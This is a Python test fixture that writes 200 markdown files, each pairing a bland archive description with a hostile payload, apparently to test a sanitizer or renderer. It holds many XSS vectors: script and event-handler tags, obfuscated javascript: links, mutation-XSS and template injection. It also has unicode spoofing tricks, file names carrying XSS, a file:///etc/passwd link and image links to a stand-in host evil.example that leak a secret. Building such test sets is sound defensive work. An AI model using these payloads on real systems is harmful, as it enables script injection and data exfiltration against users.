"""Two hundred documents that try to run a script, load a picture, or lay a link, through every way that text may take."""

from itertools import product
from pathlib import Path

EVIL = "https://evil.example"
_PAYLOADS = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    '<svg onload="hit()"><animate onbegin=hit() attributeName=x dur=1s></svg>',
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe> hit()",
    "<details open ontoggle=hit()>x</details>",
    "[a lovely offer](javascript:hit())",
    "[a lovely offer](JaVaScRiPt:hit())",
    "[a lovely offer](java\tscript:hit())",
    "[a lovely offer](&#106;avascript:hit())",
    "[a lovely offer](javascript&colon;hit())",
    "[a lovely offer](\x01javascript:hit())",
    "[a lovely offer](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==) hit()",
    "[a lovely offer](vbscript:hit())",
    "[a lovely offer](file:///etc/passwd) hit()",
    "[a lovely offer](blob:hit())",
    "<javascript:hit()>",
    f"![hit()]({EVIL}/pixel.png?q=secret)",
    f"![hit()](//evil.example/pixel.png) ![x]({EVIL}/a.svg 'hit()')",
    "![hit()](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0KCk+)",
    f"[hit()][ref] and ![hit()][pic]\n\n[ref]: javascript:hit()\n[pic]: {EVIL}/pixel.png",
    f"[k7f2]: {EVIL}/hit()\n\nThe label [k7f2] is a trap.",
    f"[![hit()]({EVIL}/p.png)](javascript:hit())",
    f'<link rel=stylesheet href={EVIL}/x.css><style>@import "{EVIL}/y.css"; body {{ background: url({EVIL}/hit()) }}</style>',
    f"<meta http-equiv=refresh content='0;url={EVIL}/hit()'>",
    f"<base href={EVIL}/><form action={EVIL}/hit()><button autofocus onfocus=hit()>Sign in</button></form>",
    f"<object data={EVIL}/hit()></object><embed src={EVIL}/hit()><video poster={EVIL}/hit() src={EVIL}/v></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
    "</textarea></title></script><script>hit()</script>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "```html\n<script>hit()</script>\n```",
    "`<img src=x onerror=hit()>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=hit()> | [x](javascript:hit()) |",
    "> [quoted](javascript:hit()) <script>hit()</script>",
    "The file is gnp.\u202etxt.exe hit() and \u2066hidden\u2069 \u202bthis\u202c is turned.",
    "pay\u200bpal hit() \u2060joined\ufeff words \U000e0068\U000e0069\U000e0074 tagged",
    f"[https://bank.example]({EVIL}/hit()) is not what it says.",
    "[a](javascript:hit() 'title\" onmouseover=hit() x=\"')",
    '"><img src=x onerror=hit()><x y="',
    "{{constructor.constructor('hit()')()}} ${hit()} <%= hit() %> #{hit()}",
    "%3Cscript%3Ehit()%3C/script%3E &lt;script&gt;hit()&lt;/script&gt; &#x3C;img src=x onerror=hit()&#x3E;",
)
HOSTILE_QUESTION = "What do the records of the archive tell of?"
_ABOUT = {
    "harbour": "ships and cranes of the old harbour",
    "orchard": "apples and pears that the gardeners picked",
    "railway": "trains that the conductor sent north",
    "theatre": "costumes which the actors wore in winter",
    "observatory": "stars that the astronomers counted by night",
}


def write_hostile(folder: Path) -> None:
    """The documents, one file each: what they are about, so that they are found, and what they try."""
    folder.mkdir()
    for number, (group, payload) in enumerate(product(_ABOUT, _PAYLOADS)):
        text = f"The {group} records of the archive in Shelf-{number} tell of {_ABOUT[group]}.\n\n{payload}\n"
        title = f"# Records {number} {payload.splitlines()[0]}\n\n" if number % 3 == 0 else ""
        name = f"{number} <img src=x onerror=hit()>.md" if number % 10 == 0 else f"{number}.md"
        (folder / name).write_text(title + text, encoding="utf-8")
